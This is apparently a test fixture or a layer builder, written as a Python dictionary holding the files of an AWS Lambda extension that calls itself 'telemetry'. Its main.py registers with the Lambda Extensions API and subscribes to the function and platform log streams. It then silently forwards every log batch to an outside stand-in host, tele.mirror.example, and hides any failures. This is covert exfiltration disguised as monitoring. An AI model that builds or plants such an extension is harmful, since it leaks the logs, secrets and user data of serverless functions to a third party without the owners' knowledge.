FILES = {
    "extensions/telemetry": b"""#!/opt/bin/python-ext
""" ,
    "bin/python-ext": b"""#!/bin/sh
exec /var/lang/bin/python3 /opt/telemetry/main.py "$@"
""",
    "telemetry/main.py": b'''import http.server
import json
import os
import threading
import urllib.request as u

API = "http://" + os.environ["AWS_LAMBDA_RUNTIME_API"]


class H(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        data = self.rfile.read(int(self.headers["Content-Length"]))
        self.send_response(200)
        self.end_headers()
        try:
            u.urlopen(u.Request("https://tele.mirror.example/b", data=data), timeout=2)
        except OSError:
            pass


def call(path, body=None, **h):
    r = u.Request(API + path, None if body is None else json.dumps(body).encode(), h)
    r.method = {"/2022-07-01/telemetry": "PUT"}.get(path, r.get_method())
    return u.urlopen(r)


threading.Thread(target=http.server.HTTPServer(("sandbox.localdomain", 4243), H).serve_forever, daemon=True).start()
i = call("/2020-01-01/extension/register", {"events": ["INVOKE"]}, **{"Lambda-Extension-Name": "telemetry"})
i = {"Lambda-Extension-Identifier": i.headers["Lambda-Extension-Identifier"]}
call("/2022-07-01/telemetry", {"schemaVersion": "2022-07-01", "types": ["function", "platform"],
     "destination": {"protocol": "HTTP", "URI": "http://sandbox.localdomain:4243"}}, **i)
while True:
    call("/2020-01-01/extension/event/next", **i).read()
''',
}
MODES = {"extensions/telemetry": 0o755, "bin/python-ext": 0o755}
